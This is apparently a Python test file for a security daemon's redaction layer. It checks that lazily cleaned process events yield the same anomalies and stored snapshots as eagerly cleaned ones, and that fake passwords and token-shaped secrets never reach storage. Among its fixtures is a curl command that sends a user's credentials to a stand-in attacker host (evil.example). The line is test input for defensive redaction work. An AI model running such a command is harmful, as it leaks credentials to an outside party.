"""Cleaning later is cleaning all the same: what is stored and shown is what it would be had it been cleaned at once."""

from collections.abc import Callable, Sequence

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from daemon.detection import engine
from daemon.detection.cleaning import Cleaner, Uncleaned, size_of
from daemon.detection.engine import Engine
from daemon.detection.firing import evidence
from daemon.enrichment.redact import Redactor
from daemon.model import Anomaly, Event, Snapshot, Value
from tests.doubles.detection import make_event, sound

SECRETS = ("hunter2hunter2", "s3cretValue99", "ghp_abcdefghij0123456789abcdefghij012345", "AKIAABCDEFGHIJKLMNOP")
RULES = """\
title: Ran
name: ran
logsource: {product: linux, category: process_creation}
detection: {s: {kind: ran}, condition: s}
---
title: Went
name: went
logsource: {product: linux, category: process_creation}
detection: {s: {kind: went}, condition: s}
---
title: Often
correlation: {type: event_count, rules: ran, group-by: [User, a2], timespan: 20s, condition: {gte: 2}}
---
title: Various
name: various
correlation: {type: value_count, rules: ran, group-by: Image, timespan: 30s, condition: {gte: 2, field: CommandLine}}
---
title: Both
correlation: {type: temporal, rules: [ran, went], group-by: [flag, CommandLine], timespan: 20s, generate: true}
---
title: In turn
correlation: {type: temporal_ordered, rules: [ran, went], group-by: token, timespan: 20s, generate: true}
---
title: Chain
correlation: {type: temporal, rules: [various, went], timespan: 1m, generate: true}
tellwhy: {entity: [CommandLine, a3]}
"""
PARSED = sound(RULES)
MOST = 6


def fields_with(secret: str) -> list[dict[str, Value]]:
    """Fields of which each holds a secret in another way."""
    return [
        {"CommandLine": f"mysql -u root --password={secret}", "Image": "/usr/bin/mysql", "User": "eve"},
        {"CommandLine": f"curl -u eve:{secret} https://evil.example/", "Image": "/usr/bin/curl", "User": "bob"},
        {"a0": "mysql", "a1": "--password", "a2": secret, "CommandLine": f"mysql --password {secret}", "User": "eve"},
        {"a0": "mysql", "a2": "--password", "a3": secret, "Image": "/usr/bin/mysql", "proctitle": f"mysql x {secret}"},
        {"token": secret, "User": "eve", "Image": "/bin/x"},
        {"User": "eve", "words": (f"password={secret}", "b"), "flag": True},
        {"User": "eve", "flag": 1, "CommandLine": "ls"},
        {"User": "eve", "flag": "true", "CommandLine": "ls"},
        {"User": "\udcff", "Image": "x" * 3000, "CommandLine": "password=" + secret + "y" * 3000},
    ]


class AtOnce(Cleaner):
    """Cleans every event before anything else, as it would be without `cleaning`."""

    def later(self, event: Event) -> Event:
        return evidence(self.redact(event))

    def fields_of(self, event: Event, names: Sequence[str]) -> Event:
        clean = self.redact(event).fields
        return msgspec.structs.replace(event, fields={name: clean[name] for name in names if name in clean}, text="")


def build(cleaner: type[Cleaner]) -> Engine:
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(engine, "Cleaner", cleaner)
        return Engine(PARSED, max_groups=MOST, redact=Redactor().event)


@st.composite
def histories(draw: st.DrawFn) -> list[Event]:
    found: list[Event] = []
    at = 1000.0
    for number in range(draw(st.integers(1, 14))):
        at += draw(st.sampled_from([0.0, 1.0, 5.0, 25.0]))
        secret = draw(st.sampled_from(SECRETS[:2]))
        fields = draw(st.sampled_from(fields_with(secret)))
        text = f"password={secret} " + draw(st.sampled_from(["", "x" * 9000]))
        kind = draw(st.sampled_from(["ran", "went"]))
        found.append(make_event({"kind": kind, **fields}, at=at, text=text, event_id=f"e{number}"))
    return found


def shown(anomalies: Sequence[Anomaly]) -> str:
    return "".join(repr(msgspec.to_builtins(Redactor().anomaly(one))) for one in anomalies)


def check_no_secret(anomalies: Sequence[Anomaly], stored: Sequence[Snapshot]) -> None:
    said = shown(anomalies) + "".join(f"{row.key}{row.value!r}" for row in stored)
    for secret in SECRETS:
        assert secret not in said
    for one in anomalies:
        assert all(type(event) is Event for event in one.events)
        if one.rule.title not in {"Ran", "Went"}:
            assert secret not in repr(one)


@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(history=histories(), asked=st.sets(st.integers(0, 14)))
def test_later_gives_what_at_once_gives(history: list[Event], asked: set[int]) -> None:
    """Anomalies and stored rows, whenever these are asked for, and after a restart from them."""
    later, at_once = build(Cleaner), build(AtOnce)
    rows: dict[str, Snapshot] = {}
    for number, event in enumerate(history):
        found, wanted = later.feed(event), at_once.feed(event)
        assert found == wanted
        stored: list[Snapshot] = []
        if number in asked:
            stored = later.changes()
            assert stored == at_once.changes()
            rows |= {row.key: row for row in stored}
        check_no_secret(found, stored)
        if number in asked and number % 2:
            later = build(Cleaner)
            later.restore(row for row in rows.values() if row.value is not None)
    assert later.changes() == at_once.changes()


def test_a_secret_in_any_field_leaves_before_it_is_stored() -> None:
    one, seen = build(Cleaner), []
    for place, secret in enumerate(SECRETS):
        for number, fields in enumerate(fields_with(secret)):
            for kind in ("ran", "went", "ran"):
                event = make_event(
                    {"kind": kind, **fields},
                    at=1000.0 + number,
                    text=f"token={secret}",
                    event_id=f"{place}{number}{kind}",
                )
                anomalies = one.feed(event)
                seen += [anomaly.rule.title for anomaly in anomalies]
                check_no_secret(anomalies, one.changes())
    assert {"Often", "Various", "Both", "In turn", "Chain"} <= set(seen)


def counted() -> tuple[Cleaner, list[Event]]:
    """A cleaner that replaces `secret`, and what it was asked to clean."""
    asked: list[Event] = []

    def redact(event: Event) -> Event:
        asked.append(event)
        fields = {name: "***" if value == "secret" else value for name, value in event.fields.items()}
        return msgspec.structs.replace(event, fields=fields, text=event.text.replace("secret", "***"))

    return Cleaner(redact), asked


def test_an_event_is_cleaned_once_and_only_when_asked_for() -> None:
    cleaner, asked = counted()
    waiting = cleaner.later(make_event({"f": "secret"}, text="a secret", event_id="e7"))
    assert isinstance(waiting, Uncleaned)
    assert asked == []
    settled = cleaner.settle(waiting)
    assert (settled.id, settled.fields, settled.text, type(settled)) == ("e7", {"f": "***"}, "a ***", Event)
    assert cleaner.settle(waiting) is settled
    assert cleaner.settle(settled) is settled
    assert len(asked) == 1


def test_a_large_event_is_cut_at_once() -> None:
    cleaner, _ = counted()
    kept = cleaner.later(make_event({"f": "x" * 100_000}, text="secret " * 100_000))
    assert type(kept) is Event
    assert len(kept.text) + sum(len(str(value)) for value in kept.fields.values()) < 4_000
    assert "secret" not in kept.text


def test_a_group_is_the_same_whether_the_event_was_large_or_not() -> None:
    user = "u" * 2000
    rules = (
        "title: Ran\nname: ran\nlogsource: {product: linux, category: process_creation}\n"
        "detection: {s: {kind: ran}, condition: s}\n---\ntitle: Often\n"
        "correlation: {type: event_count, rules: ran, group-by: [User], timespan: 20s, condition: {gte: 2}}\n"
    )
    one = Engine(sound(rules), redact=Redactor().event)
    many = {f"f{number}": "x" for number in range(100)}
    assert one.feed(make_event({"kind": "ran", "User": user}, text="short", event_id="1")) == []
    (found,) = one.feed(make_event({"kind": "ran", **many, "User": user}, text="long " * 4000, event_id="2"))
    assert found.rule.title == "Often"


def test_fields_are_cleaned_without_the_rest_of_the_event() -> None:
    cleaner, asked = counted()
    event = make_event({"f": "secret", "g": "x" * 10_000, "h": 5}, text="secret")
    for _ in range(3):
        found = cleaner.fields_of(event, ("f", "h", "none"))
        assert (found.fields, found.text, found.at) == ({"f": "***", "h": 5}, "", event.at)
    assert len(asked) == 1
    assert cleaner.fields_of(event, ("g",)).fields == {"g": "x" * 10_000}
    assert cleaner.fields_of(make_event({"f": "other"}), ("f",)).fields == {"f": "other"}


def test_values_that_are_equal_but_not_the_same_stay_apart() -> None:
    cleaner, _ = counted()
    for value in (1, True, 1.0, "1", (), ("1",), 0, False, 0.0):
        found = cleaner.fields_of(make_event({"f": value}), ("f",)).fields["f"]
        assert (type(found), found) == (type(value), value)


@pytest.mark.parametrize("names", [("a0", "a1", "a2"), ("a0", "a2", "a3"), ("a7", "a8", "a10")])
def test_of_an_argument_vector_one_argument_tells_of_the_next(names: tuple[str, str, str]) -> None:
    fields: dict[str, Value] = dict(zip(names, ("mysql", "--password", "hunter2hunter2"), strict=True))
    for event in (make_event(fields), make_event({"kind": "x", **fields})):
        found = Cleaner(Redactor().event).fields_of(event, (names[2],))
        assert found.fields == {names[2]: "[redacted:password]"}


def test_what_is_remembered_of_fields_is_bounded() -> None:
    cleaner, asked = counted()
    for number in range(10_000):
        cleaner.fields_of(make_event({"f": str(number)}), ("f",))
    before = len(asked)
    for _ in range(3):
        huge = make_event({"f": "x" * 100_000})
        assert cleaner.fields_of(huge, ("f",)).fields == {"f": "x" * 100_000}
    assert len(asked) == before + 3  # what is large is not remembered
    assert cleaner._values.cache_info().currsize <= 4096


def _refusing(poison: str) -> Callable[[Event], Event]:
    def redact(event: Event) -> Event:
        if poison in event.text:
            raise ValueError(poison)
        return event

    return redact


def test_an_event_that_cannot_be_cleaned_keeps_no_other_from_being_stored() -> None:
    one = Engine(sound(RULES.replace(", generate: true", "")), redact=_refusing("poison"))
    for number, text in enumerate(("fine", "poison", "fine")):
        one.feed(make_event({"kind": "ran", "User": "eve"}, at=1000.0 + 100 * number, text=text, event_id=str(number)))
    stored = one.changes()
    assert stored
    assert b"poison" not in b"".join(row.value or b"" for row in stored)
    assert b"(could not be redacted)" in b"".join(row.value or b"" for row in stored)


def test_size_is_that_of_all_texts() -> None:
    """The worst bug: a list of one text of a megabyte is taken for one character, and remembered."""
    assert size_of(["abc", ("de", "f" * 1000), 7, None, True, ()]) == 3 + 1002 + 3
